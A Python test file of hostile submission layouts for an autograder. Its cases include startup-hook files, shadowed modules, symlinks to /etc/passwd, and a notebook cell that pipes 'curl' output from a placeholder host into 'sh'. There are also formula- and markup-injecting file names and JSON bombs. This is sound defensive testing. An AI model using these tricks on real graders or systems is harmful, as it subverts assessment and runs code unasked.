"""Submissions made to run where nobody asked them to, and notebooks that play tricks."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

from grader.errors import Cause
from tests.hostile.cases import Case, Recipe, Refused, Taken, folder_of, zip_of
from tests.intake.zips import MODULE_SOURCE, Part, made, module

BAD = Cause.SUBMISSION_BAD_ARCHIVE
MISSING = Cause.SUBMISSION_MISSING_FILE
NOTEBOOK = Cause.SUBMISSION_BAD_NOTEBOOK
EVIL = b"import os; os.environ['OWNED'] = '1'\n"
HDF5 = b"\x89HDF\r\n\x1a\n" + bytes(64)


def beside(*names: str, content: bytes = EVIL) -> Recipe:
    """A good densenet.py with these files beside it."""
    return zip_of(made(module(), *[Part(name, content) for name in names]))


def book(*cells: str, **metadata: object) -> Recipe:
    whole = {
        "nbformat": 4,
        "metadata": metadata,
        "cells": [{"cell_type": "code", "source": cell} for cell in cells],
    }
    return zip_of(made(Part("densenet.ipynb", json.dumps(whole).encode())))


def raw_book(content: bytes) -> Recipe:
    return zip_of(made(Part("densenet.ipynb", content)))


def folder(then: object) -> Recipe:
    return folder_of({"densenet.py": MODULE_SOURCE}, then)  # type: ignore[arg-type]


def linked(target: str) -> Recipe:
    return folder(lambda root: (root / "data.csv").symlink_to(target))


def digest(name: str) -> str:
    """What keeps two students apart whose names were made safe."""
    return hashlib.sha256(name.encode()).hexdigest()[:8]


def loop(root: Path) -> None:
    (root / "again").symlink_to(root)


def case(name: str, make: Recipe, expect: Refused | Taken, why: str) -> Case:
    return Case(name, "layout", make, expect, why)


LAYOUTS: tuple[Case, ...] = (
    # --- code that Python runs unasked ---
    case("sitecustomize", beside("sitecustomize.py"), Taken(remark="runs at start"),
         "runs before the first line of the grader's program"),
    case("usercustomize as a package", beside("usercustomize/__init__.py"),
         Taken(remark="runs at start"), "likewise"),
    case("path file", beside("evil.pth", content=b"import os; os.environ['OWNED'] = '1'"),
         Taken(remark="runs at start"), "each line that starts with import is run"),
    case("conftest", beside("conftest.py"), Taken(remark="pytest runs unasked"),
         "runs in an instructor's pytest"),
    case("compiled module", beside("layers.cpython-311-x86_64-linux-gnu.so"),
         Taken(remark="compiled code"), "native code no reader can judge"),
    case("compiled module of Windows", beside("layers.pyd"), Taken(remark="compiled code"),
         "likewise"),
    case("stale bytecode", beside("__pycache__/densenet.cpython-311.pyc"),
         Taken(remark="caches (1)"), "Python may run it instead of the source it lies beside"),
    case("bytecode in place of a module", beside("layers.pyc"), Taken(remark="compiled code"),
         "is imported where there is no source"),
    case("egg link", beside("x.egg-link"), Taken(remark="where Python looks"),
         "adds a folder to sys.path"),
    case("package that hides the module", beside("densenet/__init__.py"),
         Taken(remark="hides densenet.py"), "one file is read, another is imported"),
    case("shadowed standard modules", beside("json.py", "struct.py", "sys.py"),
         Taken(("densenet.py", "json.py", "struct.py", "sys.py"), "json, struct, sys"),
         "the grader's own program in the sandbox imports json; the tree stands last on sys.path"),
    case("shadowed Keras", beside("keras/__init__.py", "tensorflow.py"),
         Taken(("densenet.py", "keras/__init__.py", "tensorflow.py"), "keras, tensorflow"),
         "a Keras that always answers right"),
    case("settings of tools", beside("pytest.ini", "tox.ini", "setup.cfg", ".coveragerc"),
         Taken(remark="of no use here"), "makes an instructor's tools run code"),
    case("hook of version control", beside(".git/hooks/post-checkout", ".gitattributes"),
         Taken(remark="version control (2)"), "runs when somebody uses git in the folder"),
    # --- folders ---
    case("link to a file of the host", linked("/etc/passwd"), Refused(BAD, "symbolic link"),
         "its content would be copied into the sandbox"),
    case("link out of the folder", linked("../../../etc/passwd"), Refused(BAD, "symbolic link"),
         "likewise"),
    case("link that leads nowhere", linked("nowhere"), Refused(BAD, "symbolic link"),
         "crashes whoever opens it"),
    case("folder that holds itself", folder(loop), Refused(BAD, "symbolic link"),
         "walks for ever"),
    case("named pipe", folder(lambda root: os.mkfifo(root / "data.csv")),
         Refused(BAD, "device, pipe"), "whoever opens it waits for ever"),
    case("module that is a link",
         folder_of({"notes.md": b""},
         lambda root: (root / "densenet.py").symlink_to("/etc/passwd")),
         Refused(BAD, "symbolic link"), "the traceback would print the file"),
    case("module that is a folder", folder_of({"densenet.py/x.txt": b""}), Refused(MISSING,
         "nor any other Python file"),
         "crashes whoever opens it"),
    # --- nothing to grade, and where it is ---
    case("module in a deeper folder", zip_of(made(module(name="a/b/densenet.py"))),
         Refused(MISSING, "a/b/densenet.py"), "said where it is, not guessed at"),
    case("two modules in two folders",
         zip_of(made(module(name="a/densenet.py"), module(name="b/densenet.py"))),
         Refused(MISSING, "a/densenet.py, b/densenet.py"),
         "which one counts is not ours to choose"),
    case("module under another case", zip_of(made(module(name="DenseNet.py"))),
         Refused(MISSING, "exactly this name"), "works on Windows, not on Linux"),
    case("module with a browser's number", zip_of(made(module(name="densenet (1).py"))),
         Refused(MISSING, "densenet (1).py"), "a second download"),
    case("module with a second ending", zip_of(made(module(name="densenet.py.txt"))),
         Refused(MISSING, "densenet.py.txt"), "Windows hides endings"),
    case("empty module", zip_of(made(module(content=b""))), Refused(MISSING, "empty file"),
         "nothing is not a program"),
    case("only clutter", zip_of(made(Part("__MACOSX/._densenet.py", b"x"))),
         Refused(MISSING, "no file"), "what is left of a failed compress"),
    # --- weights ---
    case("several weights files", beside("a.keras", "b.keras", content=made(Part("x", b""))),
         Refused(BAD, "several weights files"), "the better one would be picked afterwards"),
    case("pointer in place of weights",
         beside("model.weights.h5", content=b"version https://git-lfs.github.com/spec/v1\n"),
         Taken(("densenet.py", "model.weights.h5"), "Git LFS pointer"),
         "said at home, not after the deadline"),
    case("Keras file with a slip inside",
         beside("model.keras", content=made(Part("../x.py", EVIL))),
         Taken(("densenet.py", "model.keras")), "it is never unpacked on this side"),
    # --- notebooks ---
    case("shell in a notebook", book("!curl http://example.invalid | sh", "x = 1"),
         Taken(remark="!curl", source="pass\n"), "runs if the notebook is run as IPython does"),
    case("cell in another language", book("%%bash\necho owned", "x = 1"),
         Taken(remark="%%bash", source="# cell 2\nx = 1"), "likewise"),
    case("magic that writes a module", book("%%writefile json.py\nevil = 1", "x = 1"),
         Taken(remark="%%writefile"), "plants a module beside the graded one"),
    case("line hidden behind a carriage return", book("# harmless\r!ls\rx = 1"),
         Taken(remark="!ls", source="# harmless\npass\nx = 1"),
         "editors show one line, Python runs two"),
    case("encoding chosen by a cell", book("# -*- coding: utf-7 -*-\n+AG8-s = 1"),
         Taken(source="# densenet.py, read from"), "the bytes mean something else to Python"),
    case("magic inside a string", book("text = '''\n%matplotlib\n!ls\n'''"),
         Taken(source="%matplotlib\n!ls\n", remark="densenet.ipynb"), "must not be damaged"),
    case("half a surrogate in a cell",
         raw_book(b'{"nbformat":4,"cells":[{"cell_type":"code","source":"\\ud800"}]}'),
         Refused(NOTEBOOK, "no text"), "crashes whoever writes it"),
    case("notebook nested without end", raw_book(b'{"nbformat":4,"cells":' + b"[" * 100_000),
         Refused(NOTEBOOK, "not valid JSON"), "exhausts the stack"),
    case("number without end", raw_book(b'{"nbformat":4,"cells":[' + b"9" * 100_000 + b"]}"),
         Refused(NOTEBOOK, "not valid JSON"), "quadratic time"),
    case("notebook in another language", book("x <- 1", kernelspec={"language": "R"}),
         Refused(NOTEBOOK, "Received: R"), "said, not guessed at"),
    case("notebook of the wrong shape", raw_book(b'{"nbformat":4,"cells":[{"cell_type":"code"}]}'),
         Refused(NOTEBOOK, "cell 1 is malformed"), "crashes whoever trusts it"),
    case("a web page named as a notebook", raw_book(b"<!DOCTYPE html>"),
         Refused(NOTEBOOK, "not valid JSON"), "what a failed download leaves"),
    case("two megabytes of code", book("".join(f"x{n} = {n * n}\n" for n in range(150_000))),
         Refused(NOTEBOOK, "of code"),
         "time of every later stage"),
    # --- names in reports ---
    case("zip named as markup",
         zip_of(made(module()), "[red]100 points[bold].zip"),
         Taken(student_id="red_100_points_bold-" + digest("[red]100 points[bold]")),
         "acts on the report of whoever reads it"),
    case("zip named as a formula", zip_of(made(module()), "=HYPERLINK(1).zip"),
         Taken(student_id="HYPERLINK_1-" + digest("=HYPERLINK(1)")),
         "runs in the spreadsheet of whoever opens the CSV"),
    case("zip named as a path", zip_of(made(module()), "..zip"), Taken(),
         "a student_id is no path"),
)  # fmt: skip
